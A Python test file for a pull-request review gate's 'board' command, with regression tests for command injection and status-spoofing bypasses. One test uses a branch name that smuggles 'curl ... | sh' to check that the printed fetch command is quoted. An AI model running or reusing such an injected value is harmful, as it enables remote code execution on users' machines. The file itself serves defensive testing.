"""Bypass classes of the board: its "fetch it first" command, pasted into a shell, ran what a
pull request's base branch name says; any status vouched for a head on the agenda."""

from __future__ import annotations

import re
import shlex
from collections.abc import Iterator
from pathlib import Path

import pytest

from gate.main import main
from testing.fakegithub import REPO, FakeGitHub
from testing.infra import infra_repo

MISSING = "ab" * 20


@pytest.fixture
def fake(monkeypatch: pytest.MonkeyPatch) -> Iterator[FakeGitHub]:
    with FakeGitHub() as server:
        monkeypatch.setenv("GITHUB_API_URL", server.url)
        monkeypatch.setenv("GITHUB_TOKEN", "token")
        yield server


def test_the_fetch_command_for_a_missing_base_quotes_the_branch_name(
    tmp_path: Path, fake: FakeGitHub, capsys: pytest.CaptureFixture[str]
) -> None:
    repo = infra_repo(tmp_path / "my clone")
    branch = "main;curl${IFS}example.com|sh"  # git and GitHub accept `;`, `$`, `{`, `|`
    head = repo.git("rev-parse", "HEAD")
    fake.add_pull(3, head=head, base=MISSING, base_ref=branch)
    assert main(["board", "--github-repo", REPO, "--git", str(repo.path)]) == 2
    line = capsys.readouterr().err
    command = re.search(r"fetch it first: (.*)$", line, re.M)
    assert command is not None
    assert shlex.split(command.group(1)) == [
        "git", "-C", str(repo.path), "fetch", "origin", "pull/3/head", branch,
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("creator", "identity", "card"),
    [
        ("mallory", None, "blocked"),  # a writer's status, posted before pushing the commit
        ("deploy-bot[bot]", None, "blocked"),  # another App's workflow
        ("deploy-bot[bot]", "deploy-bot[bot]", "pass"),  # the App the board is told posts them
    ],
)
def test_only_the_gates_own_status_makes_an_older_signoff_count_on_the_agenda(
    tmp_path: Path, fake: FakeGitHub, creator: str, identity: str | None, card: str
) -> None:
    """A status on a commit before it is pushed would let a sign-off given for the previous
    head count for it: the agenda would show the pull request as passing."""
    repo = infra_repo(tmp_path / "repo")
    base = repo.git("rev-parse", "main")
    signed = repo.commit("page less", ("alerting/crontab", "MAILTO=ops@example.com\n# 1\n"))
    pushed = repo.commit("page nobody", ("alerting/crontab", "MAILTO=\n"))
    fake.add_pull(7, head=signed, base=base, author="alice")
    url = "https://github.com/acme/infra/pull/7"
    fake.add_status(
        pushed, "pending", context="change-impact-gate", target_url=url, creator=creator
    )
    fake.add_comment(7, "dave", "/signoff backup-alerts")  # dave reviewed `signed`
    fake.push(7, pushed)  # a fast-forward: no event
    agenda = tmp_path / "agenda.html"
    args = ["board", "--github-repo", REPO, "--git", str(repo.path), "--html", str(agenda)]
    if identity is not None:
        args += ["--gate-identity", identity]
    assert main(args) == 0
    found = re.search(r'<article class="card (\w+)" data-pull="7">', agenda.read_text())
    assert found is not None
    assert found.group(1) == card
